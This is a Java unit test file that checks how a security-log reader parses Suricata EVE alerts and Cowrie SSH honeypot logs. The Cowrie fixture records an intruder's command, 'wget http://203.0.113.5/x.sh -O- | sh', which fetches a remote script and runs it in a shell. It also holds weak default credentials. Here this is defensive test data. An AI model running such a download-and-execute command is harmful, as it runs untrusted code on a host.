package io.vigil.engine.data;

import static io.vigil.engine.data.Inputs.assertReadFails;
import static io.vigil.engine.data.Inputs.open;
import static io.vigil.engine.data.Inputs.readAll;
import static io.vigil.engine.data.Inputs.utf8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class EveAndCowrieReadingTest {

    /** Suricata 7 EVE lines as it writes them (fields cut down): a flow, an alert, DNS, HTTP and TLS. */
    static final String EVE = String.join("\n",
            "{\"timestamp\":\"2024-03-05T10:15:30.123456+0000\",\"flow_id\":1187655326389711,\"in_iface\":\"eth0\","
                    + "\"event_type\":\"flow\",\"src_ip\":\"10.0.0.5\",\"src_port\":51432,\"dest_ip\":\"93.184.216.34\","
                    + "\"dest_port\":443,\"proto\":\"TCP\",\"flow\":{\"pkts_toserver\":12,\"pkts_toclient\":10,"
                    + "\"bytes_toserver\":1830,\"bytes_toclient\":5922,\"start\":\"2024-03-05T10:15:00.000100+0000\","
                    + "\"age\":30,\"state\":\"closed\",\"reason\":\"timeout\",\"alerted\":false},"
                    + "\"tcp\":{\"tcp_flags\":\"1b\",\"syn\":true,\"fin\":true}}",
            "{\"timestamp\":\"2024-03-05T10:15:31.000001+0000\",\"flow_id\":1187655326389712,\"event_type\":\"alert\","
                    + "\"src_ip\":\"203.0.113.9\",\"src_port\":4444,\"dest_ip\":\"10.0.0.5\",\"dest_port\":22,\"proto\":\"TCP\","
                    + "\"alert\":{\"action\":\"allowed\",\"gid\":1,\"signature_id\":2001219,\"rev\":20,"
                    + "\"signature\":\"ET SCAN Potential SSH Scan\",\"category\":\"Attempted Information Leak\",\"severity\":2,"
                    + "\"metadata\":{\"signature_severity\":[\"Major\"]}},"
                    + "\"flow\":{\"pkts_toserver\":1,\"pkts_toclient\":0,\"bytes_toserver\":74,\"bytes_toclient\":0,"
                    + "\"start\":\"2024-03-05T10:15:31.000001+0000\"}}",
            "",
            "{\"timestamp\":\"2024-03-05T10:15:32.5+0000\",\"flow_id\":1187655326389713,\"event_type\":\"dns\","
                    + "\"src_ip\":\"10.0.0.5\",\"src_port\":53001,\"dest_ip\":\"10.0.0.1\",\"dest_port\":53,\"proto\":\"UDP\","
                    + "\"dns\":{\"type\":\"query\",\"id\":4711,\"rrname\":\"example.com\",\"rrtype\":\"A\",\"tx_id\":0}}",
            "{\"timestamp\":\"2024-03-05T10:15:33.25+0000\",\"flow_id\":1187655326389714,\"event_type\":\"http\","
                    + "\"src_ip\":\"10.0.0.5\",\"src_port\":51500,\"dest_ip\":\"198.51.100.7\",\"dest_port\":80,\"proto\":\"TCP\","
                    + "\"http\":{\"hostname\":\"198.51.100.7\",\"url\":\"/login.php?u=admin\",\"http_user_agent\":\"curl/8.5.0\","
                    + "\"http_method\":\"GET\",\"protocol\":\"HTTP/1.1\",\"status\":404,\"length\":153}}",
            "{\"timestamp\":\"2024-03-05T10:15:34.75+0000\",\"flow_id\":1187655326389715,\"event_type\":\"tls\","
                    + "\"src_ip\":\"10.0.0.5\",\"src_port\":51510,\"dest_ip\":\"93.184.216.34\",\"dest_port\":443,\"proto\":\"TCP\","
                    + "\"tls\":{\"subject\":\"CN=example.com\",\"version\":\"TLS 1.3\",\"sni\":\"example.com\","
                    + "\"ja3\":{\"hash\":\"e7d705a3286e19ea42f587b344ee6865\"}}}") + "\n";

    @Test
    void eveIsSniffedAndItsNestedObjectsAreDottedColumnsOfTheUnionOfEventTypes() throws IOException {
        try (TableReader reader = open(utf8(EVE), ReadOptions.detect(), "eve.json")) {
            assertThat(reader.detected().format()).isEqualTo(DataFormat.EVE);
            assertThat(reader.columnNames()).startsWith("timestamp", "flow_id", "in_iface", "event_type", "src_ip", "src_port",
                    "dest_ip", "dest_port", "proto", "flow.pkts_toserver")
                    .contains("flow.bytes_toserver", "tcp.tcp_flags", "alert.signature", "alert.signature_id",
                            "alert.metadata.signature_severity", "dns.rrname", "http.status", "tls.ja3.hash")
                    .hasSize(45); // 9 top-level + flow 9 + tcp 3 + alert 8 + dns 5 + http 7 + tls 4
            Map<String, ColumnType> types = reader.declaredTypes();
            assertThat(types).containsEntry("timestamp", ColumnType.TIMESTAMP)
                    .containsEntry("flow_id", ColumnType.INTEGER)
                    .containsEntry("dest_port", ColumnType.INTEGER)
                    .containsEntry("flow.bytes_toserver", ColumnType.INTEGER)
                    .containsEntry("alert.severity", ColumnType.INTEGER)
                    .containsEntry("http.status", ColumnType.INTEGER)
                    .containsEntry("flow.alerted", ColumnType.BOOLEAN)
                    .doesNotContainKeys("tcp.tcp_flags", "src_ip", "alert.signature", "alert.metadata.signature_severity");
            List<String[]> rows = readAll(reader);
            assertThat(rows).hasSize(5);
            List<String> columns = reader.columnNames();
            Map<String, String> alert = row(columns, rows.get(1));
            assertThat(alert).containsEntry("event_type", "alert").containsEntry("alert.signature", "ET SCAN Potential SSH Scan")
                    .containsEntry("alert.signature_id", "2001219").containsEntry("flow.bytes_toserver", "74")
                    .containsEntry("alert.metadata.signature_severity", "[\"Major\"]")
                    .containsEntry("in_iface", null).containsEntry("http.status", null);
            assertThat(row(columns, rows.get(3))).containsEntry("http.url", "/login.php?u=admin").containsEntry("http.status", "404");
            assertThat(reader.line()).isEqualTo(6); // the blank line 3 is skipped but counted
        }
    }

    @Test
    void theProfilerTypesEveColumnsAsSuricataWritesThem() throws IOException {
        DatasetProfile profile = DatasetProfiler.profile(open(utf8(EVE), ReadOptions.detect(), null), null);
        Map<String, ColumnType> types = new LinkedHashMap<>();
        profile.columnProfiles().forEach(c -> types.put(c.name(), c.type()));
        assertThat(types).containsEntry("timestamp", ColumnType.TIMESTAMP).containsEntry("alert.gid", ColumnType.INTEGER)
                .containsEntry("flow.start", ColumnType.TIMESTAMP).containsEntry("tcp.syn", ColumnType.BOOLEAN);
    }

    @Test
    void oneEventTypeCanBeKeptWithItsOwnColumns() throws IOException {
        ReadOptions alerts = ReadOptions.detect().withEventType("alert");
        try (TableReader reader = open(utf8(EVE), alerts, "eve.json")) {
            assertThat(reader.columnNames()).containsExactly("timestamp", "flow_id", "event_type", "src_ip", "src_port",
                    "dest_ip", "dest_port", "proto", "alert.action", "alert.gid", "alert.signature_id", "alert.rev",
                    "alert.signature", "alert.category", "alert.severity", "alert.metadata.signature_severity",
                    "flow.pkts_toserver", "flow.pkts_toclient", "flow.bytes_toserver", "flow.bytes_toclient", "flow.start");
            assertThat(reader.detected().eventType()).isEqualTo("alert");
            assertThat(reader.detected().toReadOptions().eventType()).isEqualTo("alert");
            List<String[]> rows = readAll(reader);
            assertThat(rows).hasSize(1);
            assertThat(reader.line()).isEqualTo(2);
        }
        assertReadFails(utf8(EVE), ReadOptions.detect().withEventType("smtp"), null)
                .hasMessage("no line has event_type 'smtp'; the file has flow, alert, dns, http, tls");
    }

    @Test
    void aFieldFirstSeenAfterTheHeadIsCountedNotRead() throws IOException {
        StringBuilder log = new StringBuilder();
        for (int i = 0; i < JsonLinesRowSource.LOOKAHEAD_OBJECTS; i++) {
            log.append("{\"timestamp\":\"2024-03-05T10:00:00+0000\",\"event_type\":\"flow\",\"flow\":{\"age\":").append(i).append("}}\n");
        }
        log.append("{\"timestamp\":\"2024-03-05T10:00:01+0000\",\"event_type\":\"anomaly\",\"anomaly\":{\"type\":\"stream\",\"event\":\"x\"}}\n");
        log.append("{\"timestamp\":\"2024-03-05T10:00:02+0000\",\"event_type\":\"anomaly\",\"anomaly\":{\"type\":\"decode\"}}\n");
        try (TableReader reader = open(utf8(log.toString()), ReadOptions.detect(), null)) {
            assertThat(reader.columnNames()).containsExactly("timestamp", "event_type", "flow.age");
            List<String[]> rows = readAll(reader);
            assertThat(rows).hasSize(JsonLinesRowSource.LOOKAHEAD_OBJECTS + 2);
            assertThat(rows.get(rows.size() - 1)).containsExactly("2024-03-05T10:00:02+0000", "anomaly", null);
            assertThat(reader.ignoredFields()).containsExactly(Map.entry("anomaly.event", 1L), Map.entry("anomaly.type", 2L));
        }
        // given columns read exactly those fields, the others counted
        try (TableReader reader = open(utf8(EVE), ReadOptions.detect().withColumns(List.of("event_type", "dest_port")), null)) {
            assertThat(readAll(reader)).containsExactly(new String[] {"flow", "443"}, new String[] {"alert", "22"},
                    new String[] {"dns", "53"}, new String[] {"http", "80"}, new String[] {"tls", "443"});
            assertThat(reader.ignoredFields()).containsEntry("timestamp", 5L).containsEntry("alert.signature", 1L);
        }
    }

    @Test
    void aMalformedLineIsAnErrorNamingIt() {
        String broken = EVE + "{\"timestamp\":\"2024-03-05T10:15:35+0000\",\"event_type\":\"flow\",\"flow\":{\"age\":3}\n";
        assertReadFails(utf8(broken), ReadOptions.detect(), "eve.json").hasMessageStartingWith("line 7 is not valid JSON");
        assertReadFails(utf8(EVE + "[1,2]\n"), ReadOptions.detect(), null).hasMessage("line 7 is not a JSON object");
        assertReadFails(utf8(EVE + "{\"a\":1} {\"b\":2}\n"), ReadOptions.detect(), null)
                .hasMessage("line 7 has more after its JSON object (one event per line)");
        assertReadFails(utf8(EVE + "{\"flow.age\":1,\"flow\":{\"age\":2}}\n"), ReadOptions.detect(), null)
                .hasMessage("line 7 has the field 'flow.age' twice");
    }

    /** Cowrie 2.5's JSON log, as written for one SSH session (fields cut down). */
    static final String COWRIE = String.join("\n",
            "{\"eventid\":\"cowrie.session.connect\",\"src_ip\":\"198.51.100.23\",\"src_port\":50312,\"dst_ip\":\"10.0.0.9\","
                    + "\"dst_port\":2222,\"session\":\"a1b2c3d4e5f6\",\"protocol\":\"ssh\","
                    + "\"message\":\"New connection: 198.51.100.23:50312 (10.0.0.9:2222) [session: a1b2c3d4e5f6]\","
                    + "\"sensor\":\"hp1\",\"timestamp\":\"2024-03-05T11:00:00.000123Z\"}",
            "{\"eventid\":\"cowrie.client.version\",\"version\":\"SSH-2.0-libssh_0.9.6\",\"message\":\"Remote SSH version: SSH-2.0-libssh_0.9.6\","
                    + "\"sensor\":\"hp1\",\"timestamp\":\"2024-03-05T11:00:00.200000Z\",\"src_ip\":\"198.51.100.23\",\"session\":\"a1b2c3d4e5f6\"}",
            "{\"eventid\":\"cowrie.login.failed\",\"username\":\"root\",\"password\":\"123456\","
                    + "\"message\":\"login attempt [root/123456] failed\",\"sensor\":\"hp1\",\"timestamp\":\"2024-03-05T11:00:01.5Z\","
                    + "\"src_ip\":\"198.51.100.23\",\"session\":\"a1b2c3d4e5f6\"}",
            "{\"eventid\":\"cowrie.login.success\",\"username\":\"root\",\"password\":\"admin\","
                    + "\"message\":\"login attempt [root/admin] succeeded\",\"sensor\":\"hp1\",\"timestamp\":\"2024-03-05T11:00:02Z\","
                    + "\"src_ip\":\"198.51.100.23\",\"session\":\"a1b2c3d4e5f6\"}",
            "{\"eventid\":\"cowrie.command.input\",\"input\":\"uname -a; wget http://203.0.113.5/x.sh -O- | sh\","
                    + "\"message\":\"CMD: uname -a; wget http://203.0.113.5/x.sh -O- | sh\",\"sensor\":\"hp1\","
                    + "\"timestamp\":\"2024-03-05T11:00:05Z\",\"src_ip\":\"198.51.100.23\",\"session\":\"a1b2c3d4e5f6\"}",
            "{\"eventid\":\"cowrie.session.closed\",\"duration\":12.7,\"message\":\"Connection lost after 12 seconds\","
                    + "\"sensor\":\"hp1\",\"timestamp\":\"2024-03-05T11:00:12.7Z\",\"src_ip\":\"198.51.100.23\",\"session\":\"a1b2c3d4e5f6\"}")
            + "\n";

    @Test
    void cowrieIsSniffedAndReadWithItsTypes() throws IOException {
        try (TableReader reader = open(utf8(COWRIE), ReadOptions.detect(), "cowrie.json.2024-03-05")) {
            assertThat(reader.detected().format()).isEqualTo(DataFormat.COWRIE);
            assertThat(reader.columnNames()).containsExactly("eventid", "src_ip", "src_port", "dst_ip", "dst_port", "session",
                    "protocol", "message", "sensor", "timestamp", "version", "username", "password", "input", "duration");
            // a password of digits is a JSON string: CATEGORICAL, not a number
            assertThat(reader.declaredTypes()).containsExactly(Map.entry("src_port", ColumnType.INTEGER),
                    Map.entry("dst_port", ColumnType.INTEGER), Map.entry("password", ColumnType.CATEGORICAL),
                    Map.entry("duration", ColumnType.NUMERIC), Map.entry("timestamp", ColumnType.TIMESTAMP));
            List<String[]> rows = readAll(reader);
            assertThat(row(reader.columnNames(), rows.get(2))).containsEntry("username", "root").containsEntry("password", "123456")
                    .containsEntry("src_port", null);
            assertThat(row(reader.columnNames(), rows.get(4))).containsEntry("input", "uname -a; wget http://203.0.113.5/x.sh -O- | sh");
        }
        try (TableReader logins = open(utf8(COWRIE), ReadOptions.detect().withEventType("cowrie.login"), null)) {
            assertThat(logins.columnNames()).containsExactly("eventid", "username", "password", "message", "sensor", "timestamp",
                    "src_ip", "session");
            assertThat(readAll(logins)).extracting(r -> r[0]).containsExactly("cowrie.login.failed", "cowrie.login.success");
        }
        // a prefix must end before a dot: "cowrie.log" is no event type
        assertReadFails(utf8(COWRIE), ReadOptions.detect().withEventType("cowrie.log"), null)
                .hasMessageStartingWith("no line has eventid 'cowrie.log'; the file has cowrie.session.connect,");
    }

    @Test
    void formatNamesAndOtherJsonLines() throws IOException {
        assertThat(DataFormat.fromName("Suricata")).contains(DataFormat.EVE);
        assertThat(DataFormat.fromName("eve")).contains(DataFormat.EVE);
        assertThat(DataFormat.fromName("cowrie")).contains(DataFormat.COWRIE);
        // JSON lines without EVE's two fields, or an eventid of another program, stay JSON Lines
        assertThat(open("{\"event_type\":\"flow\",\"x\":1}\n").detected().format()).isEqualTo(DataFormat.JSONL);
        assertThat(open("{\"eventid\":\"4624\",\"timestamp\":\"2024-01-01T00:00:00Z\"}\n").detected().format())
                .isEqualTo(DataFormat.JSONL);
        // an EVE file named .jsonl is read as JSON Lines (the extension wins, as for every format)
        assertThat(open(utf8(EVE), ReadOptions.detect(), "eve.jsonl").detected().format()).isEqualTo(DataFormat.JSONL);
        // the event type applies to EVE and Cowrie only
        assertReadFails(utf8("CEF:0|a|b|1|2|n|3|src=1\n"), ReadOptions.detect().withEventType("alert"), null)
                .hasMessage("this format has no event type to keep; leave the event type out");
    }

    static Map<String, String> row(List<String> columns, String[] cells) {
        Map<String, String> row = new LinkedHashMap<>();
        for (int i = 0; i < columns.size(); i++) {
            row.put(columns.get(i), cells[i]);
        }
        return row;
    }
}
